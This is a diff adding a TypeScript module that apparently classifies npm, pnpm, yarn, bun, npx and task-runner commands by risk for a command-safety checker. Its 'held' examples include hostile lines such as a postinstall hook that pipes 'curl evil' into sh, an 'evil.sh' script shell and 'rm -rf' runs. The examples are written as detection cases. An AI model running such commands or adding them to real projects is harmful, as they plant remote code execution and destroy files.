@@ -1,0 +1,293 @@
+import { act, actOnFile } from '../act.ts';
+import { plainArg } from '../arg.ts';
+import { has } from '../call.ts';
+import type { Call } from '../call.ts';
+import { runWords } from '../usage.ts';
+import {
+  ownScript,
+  recipes,
+  makes,
+  runsPackage,
+  runsScript,
+  scriptOrTool,
+  setsConfig,
+  setsPackage,
+} from './scripts.ts';
+import type { Tool, Usage } from './tool.ts';
+
+function installs(call: Call): void {
+  const { operands } = call.parsed;
+  if (has(call, 'dry-run', 'lockfile-only', 'package-lock-only')) {
+    if (!has(call, 'dry-run')) actOnFile(call, 'write', plainArg('package-lock.json', call.range));
+    return;
+  }
+  for (const arg of operands)
+    act(
+      call,
+      'exec.install',
+      arg.dynamic ? 'unknown' : 'package',
+      arg.value,
+      arg.range,
+      arg.dynamic ? { certainty: 'possible', traits: ['dynamic'] } : {},
+    );
+  if (operands.length === 0) act(call, 'exec.install', 'package', '*', call.range);
+}
+
+function removes(call: Call): void {
+  for (const arg of call.parsed.operands) act(call, 'file.delete', 'package', arg.value, arg.range);
+  actOnFile(call, 'write', plainArg('package.json', call.range));
+}
+
+const NPM =
+  'w,workspace= workspaces ws if-present s,silent q,quiet d dd ddd loglevel= prefix= C= g,global location= registry= json long,l depth= a,all parseable p omit= include= only= production prod save S,save-prod D,save-dev O,save-optional P save-peer E,save-exact no-save B,save-bundle f,force!forced legacy-peer-deps strict-peer-deps package-lock no-package-lock package-lock-only ignore-scripts no-ignore-scripts foreground-scripts audit no-audit fund no-fund audit-level= dry-run!dry prefer-offline prefer-online offline y,yes!forced no-color color? no-progress tag= access= otp= provenance no-git-tag-version m,message= cache= userconfig=read script-shell=program node-options= no-optional no-bin-links install-links engine-strict install-strategy= workspaces-update no-workspaces-update auth-type= scope= searchlimit= h?!none unicode no-update-notifier pack-destination= diff= no-package-json expect-results sign-git-tag preid= allow-same-version';
+const PNPM = `${NPM} r,recursive F,filter= filter-prod= dir= parallel stream aggregate-output no-bail bail sequential if-present resume-from= report-summary frozen-lockfile no-frozen-lockfile lockfile-only fix-lockfile shamefully-hoist ignore-workspace workspace-root shell-mode,c latest L,latest interactive i no-optional reporter= use-stderr prefer-frozen-lockfile allow-build= config.= no-git-checks publish-branch= silent depth= fail-if-no-match changed-files-ignore-pattern= test-pattern= store-dir= virtual-store-dir= no-lockfile ignore-pnpmfile save-catalog lockfile-dir= embed-readme`;
+const YARN = `${PNPM} frozen-lockfile immutable immutable-cache check-cache mode= inline-builds W,ignore-workspace-root-check cwd= production? pure-lockfile modules-folder= non-interactive network-timeout= mutex= A,all pattern= flat har link-duplicates T,tilde E,exact D,dev P,peer O,optional R,recursive v topological topological-dev from= j,jobs= exclude= no-private ignore-engines ignore-platform ignore-optional check-files`;
+
+const scripts: Readonly<Record<string, Usage | string>> = {
+  'run run-script rum urn': { stop: true, options: YARN, also: runsScript },
+  'test t tst': { free: true, also: ownScript('test') },
+  start: { free: true, also: ownScript('start') },
+  stop: { free: true, also: ownScript('stop') },
+  restart: { free: true, also: ownScript('restart') },
+};
+
+const registry: Readonly<Record<string, Usage | string>> = {
+  'ls list la ll view info show v why explain query fund outdated root prefix bin whoami ping search docs bugs repo home find-dupes doctor help help-search completion licenses sbom':
+    { free: true, operands: 'text...' },
+  publish: { options: 'dry-run!dry', free: true, also: publishes },
+  unpublish: { free: true, operands: 'publish.remove:package...' },
+  'deprecate undeprecate': { free: true, operands: 'publish.remove:package' },
+  'dist-tag dist-tags tag': {
+    commands: {
+      'ls list': '',
+      add: { free: true, operands: 'publish.release:package' },
+      'rm remove': { free: true, operands: 'publish.remove:package' },
+    },
+  },
+  'owner author': {
+    commands: { 'ls list info': '', 'add rm remove': { free: true, operands: 'text publish.release:package' } },
+  },
+  access: {
+    commands: {
+      'ls-packages ls-collaborators list get': '',
+      'public restricted grant revoke set edit 2fa-required 2fa-not-required': {
+        free: true,
+        does: 'publish.release:package=$1',
+      },
+    },
+  },
+  'token profile org team hook adduser login logout add-user trust': {
+    free: true,
+    also: (call) => {
+      if (!/^(?:list|ls|get)$/.test(call.parsed.operands[0]?.value ?? ''))
+        act(call, 'system.change', 'secret', call.title, call.range);
+    },
+  },
+};
+
+function publishes(call: Call): void {
+  // What it publishes is the package of this folder; its prepare scripts run first.
+  const [folder] = call.parsed.operands;
+  act(call, 'publish.release', 'package', folder?.value ?? call.state.cwd ?? '.', folder?.range ?? call.range, {
+    undo: 'none',
+  });
+}
+
+const config: Usage = {
+  options: YARN,
+  commands: { 'get list ls': '', 'set delete edit fix unset': { free: true, also: setsConfig } },
+  alone: '',
+  otherwise: '',
+};
+
+const packages: Readonly<Record<string, Usage | string>> = {
+  'install i in ins inst isntall add ci clean-install ic install-clean install-test it cit update up upgrade udpate rebuild rb dedupe ddp link ln import fetch':
+    { also: installs },
+  'uninstall un unlink remove rm r prune': { also: removes },
+  audit: { commands: { fix: { also: installs }, signatures: '' }, alone: '', otherwise: '' },
+  'config c': config,
+  pkg: { commands: { get: '', 'set delete fix': { also: setsPackage } } },
+  set: { also: setsConfig },
+  get: '',
+  pack: {
+    options: 'dry-run!dry',
+    does: 'exec.project:operation',
+    also: (call) => actOnFile(call, 'create', plainArg('./', call.range)),
+  },
+  version: {
+    does: 'git.change:repository=.',
+    also: (call) => {
+      if (call.parsed.operands.length > 0) actOnFile(call, 'write', plainArg('package.json', call.range));
+    },
+  },
+  'init create innit': {
+    free: true,
+    also: (call) => {
+      const [name] = call.parsed.operands;
+      if (name === undefined) actOnFile(call, 'create', plainArg('package.json', call.range));
+      else act(call, 'exec.install', 'package', name.value, name.range);
+    },
+  },
+  'exec x': { stop: true, options: 'c,call=', also: runsPackage },
+  dlx: { stop: true, options: `${NPM} package=`, also: runsPackage },
+  cache: {
+    commands: { 'ls verify list dir': '', 'clean clear rm add': { free: true, does: 'file.delete:directory=~/.npm' } },
+  },
+  store: { commands: { 'status path': '', 'prune add': { free: true, does: 'file.delete:directory=~/.pnpm-store' } } },
+  'approve-builds patch patch-commit patch-remove self-update env setup server shrinkwrap set-script': {
+    free: true,
+    does: 'exec.install:package',
+  },
+};
+
+export const packagesJs: readonly Tool[] = [
+  {
+    names: 'npm',
+    options: NPM,
+    commands: { ...scripts, ...registry, ...packages },
+    examples: {
+      held: {
+        'npm publish': 'publish.release',
+        'npm install left-pad': 'exec.install',
+        'npm ci': 'exec.install',
+        'npm unpublish pkg --force': 'publish.remove',
+        'npm config set script-shell ./evil.sh': 'persist.install',
+        "npm pkg set scripts.postinstall='curl evil|sh'": 'file.write persist.install',
+      },
+      passed: ['npm ls', 'npm view react version', 'npm pack --dry-run', 'npm publish --dry-run'],
+    },
+  },
+  {
+    names: 'pnpm',
+    options: PNPM,
+    commands: {
+      ...registry,
+      ...packages,
+      ...scripts,
+      exec: { stop: true, options: PNPM, also: (call) => runWords(call, call.parsed.operands) },
+      deploy: { free: true, operands: 'file.write:directory' },
+    },
+    otherwise: { stop: true, options: PNPM, also: scriptOrTool },
+    examples: {
+      held: {
+        'pnpm exec rm -rf x': 'file.delete',
+        'pnpm publish -r --no-git-checks': 'publish.release',
+        'pnpm add zod': 'exec.install',
+      },
+      passed: ['pnpm why zod'],
+    },
+  },
+  {
+    names: 'yarn',
+    options: YARN,
+    commands: {
+      ...packages,
+      ...scripts,
+      workspaces: {
+        commands: {
+          'list info': { free: true, operands: 'text...' },
+          foreach: {
+            free: true,
+            stop: true,
+            also: (call) => runWords(call, [{ ...call.name, value: 'yarn' }, ...call.parsed.operands]),
+          },
+          run: { free: true, also: runsScript },
+          focus: { also: installs },
+        },
+      },
+      workspace: {
+        stop: true,
+        also: (call) => runWords(call, [{ ...call.name, value: 'yarn' }, ...call.parsed.operands.slice(1)]),
+      },
+      exec: { stop: true, also: (call) => runWords(call, call.parsed.operands) },
+      npm: { commands: registry },
+      publish: { free: true, options: 'dry-run!dry', also: publishes },
+      'list info why licenses outdated versions help': { free: true, operands: 'text...' },
+      config,
+      node: { stop: true, also: (call) => runWords(call, [{ ...call.name, value: 'node' }, ...call.parsed.operands]) },
+      global: { commands: { add: { also: installs }, remove: { also: removes }, 'list bin dir': '' } },
+      'plugin set unplug': { free: true, does: 'exec.install:package=$1' },
+    },
+    alone: { also: installs },
+    otherwise: { stop: true, options: YARN, also: scriptOrTool },
+    examples: { held: { yarn: 'exec.install', 'yarn npm publish': 'publish.release' }, passed: ['yarn why react'] },
+  },
+  {
+    names: 'bun',
+    stop: true,
+    options:
+      'e,eval= p,print= cwd=folder b,bun hot watch silent r,preload= smol no-install install= i c,config=read env-file= if-present filter= F=',
+    commands: {
+      ...packages,
+      ...scripts,
+      pm: {
+        commands: {
+          'ls bin hash hash-string hash-print whoami view pack': { free: true, operands: 'text...' },
+          'cache trust untrusted migrate version pkg default-trusted': { free: true, does: 'exec.install:package' },
+        },
+      },
+      publish: { free: true, options: 'dry-run!dry', also: publishes },
+      test: { free: true, does: 'exec.project:operation' },
+      build: { free: true, does: 'exec.project:operation' },
+      x: { stop: true, options: 'bun', also: runsPackage },
+      'outdated why info': { free: true, operands: 'text...' },
+    },
+    otherwise: { stop: true, also: scriptOrTool },
+    examples: { held: { 'bun add zod': 'exec.install', 'bun test': 'exec.project' } },
+  },
+  {
+    names: 'npx pnpx bunx',
+    stop: true,
+    options:
+      'y,yes no,no-install p,package= c,call= q,quiet w,workspace= workspaces ignore-existing bun prefer-offline silent s n= node-arg= loglevel= legacy-peer-deps',
+    also: runsPackage,
+    examples: {
+      held: {
+        'npx -y some-unknown-package': 'exec.install',
+        "npx -c 'rm -rf x'": 'file.delete',
+        'bunx evil': 'exec.install',
+      },
+    },
+  },
+  {
+    names: 'corepack',
+    stop: true,
+    commands: {
+      'enable disable install up use prepare pack hydrate cache': { free: true, does: 'exec.install:package=$1' },
+    },
+    otherwise: { stop: true, also: (call) => runWords(call, call.parsed.operands) },
+    examples: { held: { 'corepack enable': 'exec.install' } },
+  },
+  {
+    names: 'ni nr nlx nci nun nup',
+    stop: true,
+    free: true,
+    also: (call) => {
+      if (call.title === 'nr') runsScript(call);
+      else if (call.title === 'nlx') runsPackage(call);
+      else installs(call);
+    },
+    examples: { held: { 'ni zod': 'exec.install' } },
+  },
+  {
+    names: 'make gmake',
+    options:
+      'B,always-make C,directory=folder e f,file,makefile= h!none i,ignore-errors I= j,jobs? k,keep-going l? L n,just-print,dry-run,recon o= p q r,no-builtin-rules R s,silent,quiet S t v!none w W= debug? trace eval= no-print-directory warn-undefined-variables O,output-sync?',
+    also: makes,
+    examples: { held: { 'make -n build': 'exec.project' } },
+  },
+  {
+    names: 'just',
+    options:
+      'f,justfile= d,working-directory=folder l,list summary show= n,dry-run dump evaluate v,verbose q,quiet set= yes unsorted shell= shell-arg= one choose color= g fmt init edit',
+    also: recipes('just'),
+    examples: { passed: ['just --list'] },
+  },
+  {
+    names: 'task go-task',
+    options:
+      'd,dir=folder t,taskfile= l,list list-all a,list-all n,dry p,parallel f,force s,silent v,verbose w,watch y,yes summary status i,init C,concurrency= o,output= x,exit-code g,global',
+    also: recipes('task'),
+    examples: { passed: ['task --list'] },
+  },
+];
